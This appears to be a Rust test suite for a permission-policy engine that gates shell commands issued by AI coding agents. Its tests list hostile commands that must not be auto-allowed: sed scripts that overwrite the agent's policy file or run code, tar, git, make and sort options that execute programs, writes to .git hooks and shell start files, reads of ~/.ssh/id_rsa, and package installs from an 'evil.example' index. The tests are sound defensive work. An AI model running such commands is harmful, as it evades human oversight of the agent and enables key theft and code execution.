@@ -1,0 +1,297 @@
+//! A prefix rule on a modelled program allows only what its model knows as harmless, path
+//! rules apply to the paths a command names, and "Always allow" widens only what a model
+//! reads (docs/POLICY.md, "Programs read by their arguments"). One test per way an allowed
+//! program's arguments ran more than its rule said.
+
+use std::path::{Path, PathBuf};
+
+use super::file::parse_rules;
+use super::*;
+
+fn scratch(name: &str) -> PathBuf {
+    let d = std::env::temp_dir().join(format!("acp-qb-args-{name}-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&d);
+    std::fs::create_dir_all(d.join("src")).unwrap();
+    std::fs::create_dir_all(d.join(".git/hooks")).unwrap();
+    d
+}
+
+fn rules(claude: &[&str]) -> Policy {
+    let mut text = String::new();
+    for (i, c) in claude.iter().enumerate() {
+        let decision = if c.starts_with('!') { "deny" } else { "allow" };
+        let c = c.trim_start_matches('!');
+        text.push_str(&format!(
+            "[[rule]]\nid = \"r{i}\"\ndecision = \"{decision}\"\nclaude = {c:?}\n"
+        ));
+    }
+    Policy {
+        tiers: vec![Tier {
+            name: "user",
+            rules: parse_rules(&text, Path::new("/u/policy.toml")).unwrap(),
+        }],
+        broken: None,
+        protected: Vec::new(),
+    }
+}
+
+fn exec(cmd: &str, cwd: &Path) -> Call {
+    Call {
+        agent: "claude-agent-acp".into(),
+        program: None,
+        tool: Some("Bash".into()),
+        url: None,
+        kind: Some("execute".into()),
+        title: cmd.into(),
+        command: Some(command::parse(cmd)),
+        paths: vec![],
+        cwd: cwd.to_owned(),
+    }
+}
+
+fn decide(p: &Policy, cmd: &str, cwd: &Path) -> Verdict {
+    p.decide(&exec(cmd, cwd))
+}
+
+fn not_allowed(p: &Policy, cwd: &Path, cmds: &[&str]) {
+    for cmd in cmds {
+        let v = decide(p, cmd, cwd);
+        assert_ne!(v.decision, Decision::Allow, "{cmd}: {}", v.why);
+    }
+}
+
+fn allowed(p: &Policy, cwd: &Path, cmds: &[&str]) {
+    for cmd in cmds {
+        let v = decide(p, cmd, cwd);
+        assert_eq!(v.decision, Decision::Allow, "{cmd}: {}", v.why);
+    }
+}
+
+#[test]
+fn sed_under_a_prefix_never_writes_runs_or_reads_what_its_script_names() {
+    let d = scratch("sed");
+    let p = rules(&["Bash(sed -n:*)", "Bash(sed:*)"]);
+    not_allowed(
+        &p,
+        &d,
+        &[
+            "sed -n 'w ~/.config/acp-question-bridge/policy.toml' evil.toml",
+            "sed -n '1e touch pwned' a.txt",
+            "sed -n 'w pwned' a.txt",
+            "sed -n 'w .git/config' x",
+            "sed 's/a/b/w .git/config' x",
+            "sed -i s/a/b/ .git/config",
+        ],
+    );
+    allowed(&p, &d, &["sed -n 1,20p src/a.rs", "sed -i s/a/b/ src/a.rs"]);
+    let v = decide(&p, "sed -n 'w pwned' a.txt", &d);
+    assert!(v.why.contains("writes a file"), "{}", v.why);
+}
+
+#[test]
+fn programs_that_run_others_by_an_option_are_asked_under_a_prefix() {
+    let d = scratch("runs");
+    let p = rules(&[
+        "Bash(rg:*)",
+        "Bash(tar:*)",
+        "Bash(git clone:*)",
+        "Bash(make test:*)",
+        "Bash(sort:*)",
+        "Bash(find:*)",
+    ]);
+    not_allowed(
+        &p,
+        &d,
+        &[
+            "rg --pre sh x payload.sh",
+            "tar -tf a.tar --checkpoint=1 --checkpoint-action=exec=id",
+            "tar -tf a.tar -I 'sh p.sh'",
+            "git clone -u 'touch pwned; git-upload-pack' URL dst",
+            "make test --eval='$(shell touch pwned)'",
+            "make test SHELL=sh .SHELLFLAGS=p.sh",
+            "sort --compress-program=sh big.txt",
+            "find . -exec setarch x86_64 rm -f victim ;",
+        ],
+    );
+    allowed(
+        &p,
+        &d,
+        &[
+            "rg -n TODO src",
+            "tar -tf a.tar",
+            "git clone https://example.org/x.git",
+            "make test -j4",
+            "sort -u src/a.txt",
+            "find src -name '*.rs'",
+        ],
+    );
+}
+
+#[test]
+fn writes_under_a_prefix_stay_inside_the_session_and_out_of_git_and_shell_start_files() {
+    let d = scratch("writes");
+    let p = rules(&[
+        "Bash(sort:*)",
+        "Bash(pytest:*)",
+        "Bash(cp:*)",
+        "Bash(go build:*)",
+    ]);
+    not_allowed(
+        &p,
+        &d,
+        &[
+            "sort -o ~/.profile payload.sh",
+            "pytest --basetemp=/elsewhere",
+            "pytest --junitxml=/tmp/acp-qb-elsewhere.xml",
+            "cp payload .git/hooks/pre-commit",
+            "cp -r payload/.git .",
+            "cp -r payload/. .",
+            &format!("sort -o {}/.bashrc x", d.display()),
+            "cp x ../outside",
+        ],
+    );
+    allowed(
+        &p,
+        &d,
+        &[
+            "sort -o src/sorted.txt src/a.txt",
+            "pytest --junitxml=out.xml -q",
+            "cp src/a.rs src/b.rs",
+            "go build -o bin/app ./cmd/app",
+        ],
+    );
+    let v = decide(&p, "sort -o ~/.profile payload.sh", &d);
+    assert!(v.why.contains("outside the session"), "{}", v.why);
+}
+
+#[test]
+fn path_denies_cover_the_paths_a_command_names() {
+    let d = scratch("denies");
+    std::fs::write(d.join(".env"), "SECRET=1").unwrap();
+    let p = rules(&[
+        "Bash(cat:*)",
+        "Bash(grep:*)",
+        "Bash(rg:*)",
+        "Bash(git diff:*)",
+        "Bash(jq:*)",
+        "Bash(ls:*)",
+        "Bash(mytool:*)",
+        "!Read(.env)",
+        "!Read(~/.ssh/**)",
+    ]);
+    for cmd in [
+        "cat .env",
+        "cat src/../.env",
+        "grep -r . ~/.ssh",
+        "git diff --no-index /dev/null ~/.ssh/id_rsa",
+        "jq --rawfile k ~/.ssh/id_rsa -n '$k'",
+        "ls ~/.ssh",
+    ] {
+        let v = decide(&p, cmd, &d);
+        assert_eq!(v.decision, Decision::Deny, "{cmd}: {}", v.why);
+    }
+    // A folder searched whole reads what is beneath it as the program walks it: grep
+    // reads `.env`; ripgrep leaves hidden files out.
+    let v = decide(&p, "grep -r SECRET .", &d);
+    assert_eq!(v.decision, Decision::Deny, "{}", v.why);
+    allowed(&p, &d, &["rg SECRET .", "grep -r SECRET src"]);
+    assert_eq!(
+        decide(&p, "rg --hidden SECRET", &d).decision,
+        Decision::Deny
+    );
+    // A link it would follow, or a word a model cannot place that names a denied path:
+    // asked.
+    std::os::unix::fs::symlink("..", d.join("src/up")).unwrap();
+    for cmd in ["grep -R SECRET src", "mytool --input .env"] {
+        let v = decide(&p, cmd, &d);
+        assert_eq!(v.decision, Decision::Ask, "{cmd}: {}", v.why);
+    }
+    allowed(&p, &d, &["cat src/a.rs", "grep -n x src/a.rs", "ls"]);
+    let v = decide(&p, "mytool --input src/a.rs", &d);
+    assert_eq!(v.decision, Decision::Allow, "{}", v.why);
+    assert!(v.why.contains("no model of `mytool`"), "{}", v.why);
+}
+
+#[test]
+fn false_asks_of_ordinary_commands_are_gone() {
+    let d = scratch("ordinary");
+    let p = rules(&[
+        "Bash(cargo clippy:*)",
+        "Bash(cargo fmt:*)",
+        "Bash(ls:*)",
+        "Bash(go build:*)",
+        "Bash(git diff:*)",
+        "!Read(~/.ssh/**)",
+    ]);
+    allowed(
+        &p,
+        &d,
+        &[
+            "cargo clippy --all-targets -- -D warnings",
+            "cargo fmt -- --check",
+            "cd src && ls",
+            "go build -o bin/app",
+            "git diff --stat",
+        ],
+    );
+    // A `cd` out of the session's folders is not a free move.
+    not_allowed(&p, &d, &["cd .. && ls", "cd /etc && ls"]);
+}
+
+#[test]
+fn always_allow_widens_only_what_a_model_reads() {
+    let d = scratch("always");
+    let draft = |cmd: &str| {
+        let mut c = exec(cmd, &d);
+        c.agent = "codex-acp".into();
+        remember::drafts(&c).unwrap()
+    };
+    let policy_of = |cmd: &str| {
+        let rule = draft(cmd)["rules"]["everyAgentEverywhere"]
+            .as_str()
+            .unwrap()
+            .to_owned();
+        Policy {
+            tiers: vec![Tier {
+                name: "user",
+                rules: parse_rules(&rule, Path::new("/u/p.toml")).unwrap(),
+            }],
+            broken: None,
+            protected: Vec::new(),
+        }
+    };
+    assert_eq!(draft("uv sync")["subject"], "uv sync");
+    let p = policy_of("uv sync");
+    allowed(&p, &d, &["uv sync --frozen"]);
+    not_allowed(
+        &p,
+        &d,
+        &[
+            "uv sync --extra-index-url https://evil.example",
+            "uv sync --default-index https://evil.example",
+        ],
+    );
+    let p = policy_of("go test ./...");
+    allowed(&p, &d, &["go test -run TestX ./..."]);
+    not_allowed(&p, &d, &["go test ./... -args -test.testlogfile=F"]);
+    // No model: exactly what was approved.
+    assert!(draft("docker ps -a")["rules"]["everyAgentEverywhere"]
+        .as_str()
+        .unwrap()
+        .contains("exact = true"));
+}
+
+#[test]
+fn a_denied_program_inside_a_command_no_model_reads_is_asked() {
+    let d = scratch("runners");
+    let p = rules(&["Bash(grep:*)", "Bash(mystery-runner:*)", "!Bash(rm:*)"]);
+    for cmd in [
+        "mystery-runner x86_64 rm -f victim",
+        "mystery-runner --opt rm",
+    ] {
+        let v = decide(&p, cmd, &d);
+        assert_eq!(v.decision, Decision::Ask, "{cmd}: {}", v.why);
+    }
+    // A model places the word: grep's pattern runs nothing.
+    allowed(&p, &d, &["grep -n rm src/a.rs", "mystery-runner --list"]);
+}
